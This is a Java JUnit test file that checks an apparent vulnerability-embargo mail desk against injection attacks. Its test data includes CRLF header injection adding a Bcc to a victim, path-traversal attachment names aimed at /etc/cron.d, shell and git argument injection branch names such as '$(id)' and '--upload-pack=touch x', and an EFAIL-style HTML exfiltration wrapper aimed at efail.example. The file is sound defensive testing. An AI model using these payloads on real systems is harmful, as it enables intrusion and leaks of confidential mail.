package org.embargo.desk;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.zip.GZIPInputStream;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveInputStream;
import org.embargo.mail.Attachment;
import org.embargo.mail.OpenedMail;
import org.embargo.model.RefName;
import org.embargo.openpgp.Certificate;
import org.embargo.outbox.OutgoingMail;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Words that would like to be more than words: fields of a header, tags of a template, paths, options, another case. */
class InjectionTest {

    private static final String ALICE = "alice@project.example";
    private static final String RITA = "rita@reporter.example";
    private static final String VICTIM = "victim@elsewhere.example";
    /** A header field behind an encoded line end, and what a template would take for its own. */
    private static final String BOTH =
            "=?utf-8?Q?x=0D=0ABcc:_victim=40elsewhere.example=0D=0A=0D=0Ay?= {{desk}} {{{project}}}";

    private static final Pattern CASE = Pattern.compile("PYCA-2026-(\\d{4,})");

    @TempDir
    private Path folder;

    private TestHome home;

    @BeforeEach
    void start() {
        home = TestHome.in(folder.resolve("home"));
    }

    @AfterEach
    void stop() {
        home.close();
    }

    @Test
    void everyFieldOfAReportShouldStayWords() {
        home.receive(RITA, TestHome.DESK, hostileReport());

        assertAllWellFormed(home.sent);
        OpenedMail toAlice = read(home.sentTo(ALICE).get(0));
        assertThat(toAlice.inner().recipients())
                .extracting(address -> address.value())
                .doesNotContain(VICTIM);
        assertThat(toAlice.inner().subject().text()).doesNotContain("\r", "\n");
        assertThat(wordsOf(toAlice)).contains("{{desk}} {{{project}}}");
        assertThat(toAlice.attachments())
                .hasSizeGreaterThan(3)
                .extracting(file -> file.name().text())
                .allMatch(name -> name.matches("[A-Za-z0-9][A-Za-z0-9._-]*"));
    }

    @Test
    void namesOfFilesShouldNotBecomePathsInAnExport() throws IOException {
        home.receive(RITA, TestHome.DESK, hostileReport());
        String id = idIn(home.sentTo(ALICE).get(0));
        Certificate desk = home.deskCertificate();
        home.sent.clear();
        home.clock.move(Duration.ofSeconds(1));

        home.receive(
                ALICE,
                "security+" + id + "@project.example",
                home.alice.encrypted(
                        desk, TestHome.fields(ALICE, "export"), id + "\n/export\n", false, home.clock.instant()));

        Attachment archive = read(home.sentTo(ALICE).get(0)).attachments().get(0);
        List<String> names = new ArrayList<>();
        try (TarArchiveInputStream tar =
                new TarArchiveInputStream(new GZIPInputStream(archive.content().open()))) {
            for (TarArchiveEntry entry = tar.getNextEntry(); entry != null; entry = tar.getNextEntry()) {
                assertThat(entry.isFile()).isTrue();
                names.add(entry.getName());
            }
        }
        String under = id.toLowerCase(java.util.Locale.ROOT) + "/";
        assertThat(names).containsExactly(under + "mails.mbox", under + "journal.jsonl");
    }

    @Test
    void everyFieldOfACaseShouldStayWordsInNoticesAndPost() {
        home.close();
        Person vendor = BookMails.person("psirt@vendor.example");
        List<OutgoingMail> all = new ArrayList<>();
        try (NoticeDesk desk = new NoticeDesk(folder.resolve("case"), "", vendor)) {
            desk.order("/title " + BOTH + "\n/description\n" + BOTH + "\n/end\n/workaround\n" + BOTH + "\n/end\n"
                    + "/credit {{desk}} {{{project}}}\n");
            assertThat(desk.mails.transcript(desk.home.alice)).startsWith("Done");
            all.addAll(desk.home.sent);
            desk.approve();
            all.addAll(desk.runOverTheNotice().keySet());
            assertThat(wordsOf(desk.opened(vendor, desk.onlyTo(vendor)))).contains("{{desk}} {{{project}}}");
            assertThat(desk.opened(vendor, desk.onlyTo(vendor)).inner().recipients())
                    .extracting(address -> address.value())
                    .doesNotContain(VICTIM);
            all.addAll(desk.runTo(NoticeDesk.HOUR.plusSeconds(60), Duration.ofHours(12))
                    .keySet());
            desk.order("/released 45.0.2 https://releases.example/x?y=%0d%0aBcc:victim\n");
            desk.home.embargo().runDue();
            all.addAll(desk.home.sent);

            OutgoingMail post = desk.home.sentTo("dev@lists.example").get(0);
            OpenedMail read = desk.opened(vendor, post);
            assertThat(wordsOf(read))
                    .contains("{{desk}} {{{project}}}", "https://releases.example/x?y=%0d%0aBcc:victim");
            assertThat(read.outer().subject().text()).contains("{{desk}} {{{project}}}");
        }
        assertAllWellFormed(all);
        assertThat(all).extracting(mail -> mail.recipient().value()).doesNotContain(VICTIM);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "--upload-pack=touch x",
                "-main",
                "main;id",
                "a b",
                "../main",
                "main/../../x",
                "main\nBcc: x",
                "{{desk}}",
                "$(id)",
                "main.lock",
                "refs//heads",
                "x:y",
                "x^{}",
                "@{u}"
            })
    void nameOfABranchShouldBeNothingElse(String name) {
        assertThat(RefName.parse(name)).isEmpty();
    }

    @Test
    void numbersOfCasesShouldTellNothingOfHowManyThereAre() {
        List<Integer> numbers = new ArrayList<>();
        for (int i = 0; i < 12; i++) {
            home.receive(RITA, TestHome.DESK, TestHome.fields(RITA, "report " + i) + "\r\nwords " + i + "\r\n");
        }
        home.sentTo(ALICE)
                .forEach(mail -> numbers.add(Integer.valueOf(idIn(mail).substring("PYCA-2026-".length()))));

        assertThat(numbers).hasSize(12).doesNotHaveDuplicates();
        assertThat(numbers).isNotEqualTo(numbers.stream().sorted().toList());
        assertThat(numbers.stream().mapToInt(number -> number).max().orElseThrow())
                .isGreaterThan(2_000);
    }

    @Test
    void caseNamedInTheSubjectByAStrangerShouldNotBeJoined() {
        home.receive(RITA, TestHome.DESK, TestHome.fields(RITA, "overflow") + "\r\nwords\r\n");
        String id = idIn(home.sentTo(ALICE).get(0));
        String stranger = "mallory@elsewhere.example";
        home.sent.clear();

        home.receive(
                stranger,
                TestHome.DESK,
                TestHome.fields(stranger, "Re: [" + id + "] PYCA-2026-9999 overflow") + "\r\nsend me all\r\n");

        assertThat(idIn(home.sentTo(ALICE).get(0))).isNotEqualTo(id);
        assertThat(home.sentTo(RITA)).isEmpty();
        assertThat(LetterForm.raw(home.sentTo(stranger).get(0))).doesNotContain(id);
    }

    @Test
    void mailInAMembersNameShouldBeAnsweredAsAStrangersIs() {
        home.receive(RITA, TestHome.DESK, TestHome.fields(RITA, "overflow") + "\r\nwords\r\n");
        String toRita = LetterForm.raw(home.sentTo(RITA).get(0));
        home.sent.clear();

        home.receive(ALICE, TestHome.DESK, TestHome.fields(ALICE, "overflow") + "\r\nmore words\r\n");

        List<String> inClear = home.sentTo(ALICE).stream()
                .map(LetterForm::raw)
                .filter(raw -> raw.contains("multipart/signed"))
                .toList();
        assertThat(inClear).hasSize(1);
        assertThat(words(inClear.get(0))).isEqualTo(words(toRita));
    }

    @Test
    void htmlAroundAnEncryptedPartShouldNotTakeInWhatIsDecrypted() {
        Person rita = Person.at(RITA, TestHome.START.minusSeconds(60));
        String secret = rita.signedAndEncrypted(
                home.deskCertificate(), "Content-Type: text/plain\r\n\r\nthe secret words\r\n", home.clock.instant());
        String mail = TestHome.fields(RITA, "efail")
                + "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"m\"\r\n\r\n"
                + "--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://efail.example/\r\n"
                + "--m\r\n" + Person.pgpMime("", secret)
                + "\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n";

        home.receive(RITA, TestHome.DESK, mail);

        String shown = textOf(read(home.sentTo(ALICE).get(0)));
        assertThat(shown).contains("the secret words");
        assertThat(shown.lines()).noneMatch(line -> line.contains("efail.example") && line.contains("secret"));
        assertThat(shown).doesNotContain("<img");
    }

    /** Encrypted, since files that came in clear stay inside the original. */
    private String hostileReport() {
        String fields = "From: =?utf-8?Q?Rita=0D=0ABcc:_victim=40elsewhere.example?= {{desk}} <" + RITA + ">\r\nTo: "
                + TestHome.DESK + "\r\nSubject: " + BOTH
                + "\r\nDate: Mon, 2 Mar 2026 10:00:00 +0000\r\nMessage-ID: <1.{{desk}}@reporter.example>\r\n";
        String content = "Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n"
                + "--m\r\nContent-Type: text/plain\r\n\r\n{{desk}} {{{project}}} {{#findings}}x{{/findings}}\r\n"
                + "credit: {{desk}}\r\n"
                + "--m\r\nContent-Type: text/plain\r\nContent-Disposition: attachment;"
                + " filename=\"../../../../etc/cron.d/x\"\r\n\r\nx\r\n"
                + "--m\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment;"
                + " filename*=utf-8''x%0D%0ABcc%3A%20victim%40elsewhere.example\r\n\r\nx\r\n"
                + "--m\r\nContent-Type: application/octet-stream; name=\"..\\\\..\\\\{{desk}}.sh\"\r\n\r\nx\r\n--m--\r\n";
        Person rita = Person.at(RITA, TestHome.START.minusSeconds(60));
        return Person.pgpMime(fields, rita.signedAndEncrypted(home.deskCertificate(), content, home.clock.instant()));
    }

    private static void assertAllWellFormed(List<OutgoingMail> letters) {
        assertThat(letters).isNotEmpty();
        assertThat(letters).flatExtracting(LetterForm::flaws).isEmpty();
    }

    private OpenedMail read(OutgoingMail mail) {
        return home.alice.read(mail.message(), home.deskCertificate(), home.spools(), home.clock.instant());
    }

    /** Its words, wherever lines were wrapped. */
    private static String wordsOf(OpenedMail mail) {
        return textOf(mail).replaceAll("\\s+", " ");
    }

    private static String textOf(OpenedMail mail) {
        return mail.sections().stream().map(section -> section.text().text()).collect(Collectors.joining("\n"));
    }

    private String words(String raw) {
        return CASE.matcher(raw.substring(raw.indexOf("text/plain"), raw.indexOf("BEGIN PGP SIGNATURE")))
                .replaceAll("CASE")
                .replaceAll("security\\+r\\.\\w+", "security+r")
                .replaceAll("(?m)^--.*$|=\\R", "");
    }

    private static String idIn(OutgoingMail mail) {
        Matcher matcher = CASE.matcher(LetterForm.raw(mail));
        assertThat(matcher.find()).isTrue();
        return matcher.group();
    }
}
